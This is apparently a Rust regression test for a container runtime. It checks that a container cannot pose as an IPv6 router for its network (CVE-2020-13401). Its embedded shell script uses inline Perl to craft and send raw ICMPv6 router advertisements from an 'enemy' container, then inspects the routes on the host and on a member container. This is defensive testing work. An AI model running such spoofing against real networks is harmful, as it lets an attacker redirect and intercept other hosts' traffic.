//! Members of a network that pretend to be routers. Each test has a machine of its own, see [`super::networks`].

use super::networks::{NEEDS, prints};
use crate::context::Context;
use crate::promise::{Test, test};
use anyhow::Result;

pub(super) const TESTS: &[Test] = &[test(
    "network_routers::nobody_believes_a_members_router_advertisement",
    NEEDS,
    advertised,
)];

/// CVE-2020-13401: a container that may send whatever it likes says that it is the router for IPv6. After each of its packets one
/// that is answered has passed the same way.
fn advertised(cx: &Context) -> Result<()> {
    let script = r#"
tote network create --subnet 192.168.77.0/24 --ip-range 192.168.77.128/25 lab >/dev/null
tote run -d --network lab --name member "$IMAGE" sleep 300 >/dev/null
tote run -d --network name=lab,ip=192.168.77.7 --name enemy "$IMAGE" sleep 300 >/dev/null
member=$(tote inspect -f '{{.State.Pid}}' member); enemy=$(tote inspect -f '{{.State.Pid}}' enemy)
address=$(tote inspect -f '{{.NetworkSettings.Networks.lab.IPAddress}}' member)
nsenter -t $enemy -n sh -c "
for link in default eth0; do echo 0 > /proc/sys/net/ipv6/conf/\$link/disable_ipv6; done
ip addr add fe80::bad/64 dev eth0 nodad
for count in 1 2 3 4 5; do
    perl -MSocket=:all -e '
        socket(my \$s, AF_INET6, SOCK_RAW, 58) or die \$!;
        my \$link = shift; setsockopt(\$s, 41, 17, pack(q(I), \$link)); setsockopt(\$s, 41, 18, pack(q(i), 255));
        my \$prefix = pack(q(CCCCNNN), 3, 4, 64, 0xc0, 86400, 14400, 0) . inet_pton(AF_INET6, q(2001:db8::));
        send(\$s, pack(q(CCnCCnNN), 134, 0, 0, 64, 0, 1800, 0, 0) . \$prefix, 0, pack_sockaddr_in6(0, inet_pton(AF_INET6, q(ff02::1)), \$link)) or die \$!;
        ' \$(ip -o link show eth0 | cut -d: -f1)
    busybox ping -c 1 -W 2 192.168.77.1 >/dev/null && busybox ping -c 1 -W 2 $address >/dev/null && echo sent
done"
ip -6 route show default
ip -6 addr show dev $(ip -o link | grep -o 'tote-[0-9a-f]*' | head -n 1)
nsenter -t $member -n ip -6 route show default
nsenter -t $member -n ip -6 addr show dev eth0
"#;
    prints(cx, script, "sent\nsent\nsent\nsent\nsent\n")
}
